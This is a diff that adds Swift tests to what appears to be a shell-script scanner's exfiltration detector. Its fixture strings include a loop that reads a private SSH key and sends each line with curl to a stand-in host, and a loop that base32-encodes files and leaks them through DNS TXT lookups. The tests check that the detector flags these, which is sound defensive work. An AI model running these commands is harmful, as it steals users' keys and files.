@@ -791,3 +791,41 @@ extension ExfiltrationBehaviourTests {
     #expect(plain.isEmpty)
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test("Lines read in a while loop carry what flowed into it")
+  func whileReadBinding() throws {
+    let found = try findings(
+      "exfil-flow-credentials",
+      Example("cat ~/.ssh/id_ed25519 | while read -r line; do\n  curl -s \"https://paste-relay.io/a?d=$line\"\ndone\n", language: .shell))
+    let hit = try #require(found.first)
+    #expect(hit.line == 2)
+    #expect(hit.chain == .exfiltration)
+    let posted = try findings(
+      "exfil-flow-credentials",
+      Example("cat ~/.ssh/id_ed25519 | while read -r line; do\n  curl -s -d \"k=$line\" https://paste-relay.io/a\ndone\n", language: .shell))
+    #expect(posted.first?.line == 2)
+  }
+
+  @Test("A file's bytes encoded into DNS labels are a tunnel, whatever the file")
+  func encodedFileIntoDNS() throws {
+    let script = """
+      for key in "${QUEUE[@]}"; do
+        i=0
+        base32 -w0 <"$key" | tr -d '=' | fold -w 60 | while read -r chunk; do
+          dig +short TXT "${chunk}.${i}.kt.sshlint-ns.net" >/dev/null 2>&1
+          i=$((i + 1))
+        done
+      done
+
+      """
+    let found = try findings("exfil-flow-personal-data", Example(script, language: .shell))
+    let hit = try #require(found.first)
+    #expect(hit.line == 4)
+    #expect(hit.chain == .exfiltration)
+    #expect(hit.message.contains("encoded into DNS names"))
+    // Host names read from a file, or an encoded file written locally, are no tunnel.
+    let lookups = "cat hosts.txt | while read -r h; do dig +short \"$h\"; done\nbase64 logo.png | fold -w 76 | while read -r l; do echo \"$l\" >> logo.b64; done\n"
+    #expect(try findings("exfil-flow-personal-data", Example(lookups, language: .shell)).isEmpty)
+  }
+}
